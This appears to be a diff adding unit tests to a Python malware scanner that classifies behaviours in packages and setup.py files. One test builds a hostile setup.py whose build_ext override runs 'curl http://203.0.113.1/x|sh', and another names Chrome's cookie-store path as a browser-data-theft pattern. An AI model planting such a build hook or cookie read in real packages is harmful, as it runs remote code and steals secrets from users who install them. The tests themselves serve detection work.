@@ -284,3 +284,37 @@ def test_event_cap_per_behaviour_and_scope() -> None:
     code = "import os\n" + "os.system('ls')\n" * 100
     result = _analyse(code)
     assert sum(e.behaviour == "run_command" for e in result.events) == 20
+
+
+# --- fixes in the shared classifiers (strings.py) --------------------------------------------
+
+def test_browser_cookie_store_is_a_path_not_the_word_cookies() -> None:
+    from malseq.features.strings import classify_literal
+
+    assert "read_browser_data" in classify_literal("Cookies")
+    chrome = "C:/Users/x/AppData/Local/Google/Chrome/User Data/Default/Network/Cookies"
+    assert "read_browser_data" in classify_literal(chrome)
+    assert "read_browser_data" not in classify_literal("cookies")
+    assert "read_browser_data" not in classify_literal("Set the session cookies before sending")
+
+
+# --- benign setup.py idioms --------------------------------------------------------------------
+
+def test_setup_version_exec_and_publish_shortcut_are_not_code_execution() -> None:
+    code = ("import os, sys\nfrom setuptools import setup\nabout = {}\n"
+            "with open(os.path.join('src', 'pkg', '__version__.py')) as f:\n    exec(f.read(), about)\n"
+            "if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n"
+            "    os.system('twine upload dist/*')\n    sys.exit()\n"
+            "setup(name='pkg', version=about['__version__'])\n")
+    found = _behaviours(code, "setup.py")
+    assert "setup_code_execution" not in found
+    assert "eval_code" in found  # still reported as what it is
+
+
+def test_build_ext_override_is_reported_only_when_it_does_something_unusual() -> None:
+    plain = ("from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n"
+             "class B(build_ext):\n    def run(self):\n        build_ext.run(self)\n"
+             "setup(cmdclass={'build_ext': B})\n")
+    assert "setup_command_override" not in _behaviours(plain, "setup.py")
+    evil = plain.replace("build_ext.run(self)", "__import__('os').system('curl http://203.0.113.1/x|sh')")
+    assert "setup_command_override" in _behaviours(evil, "setup.py")
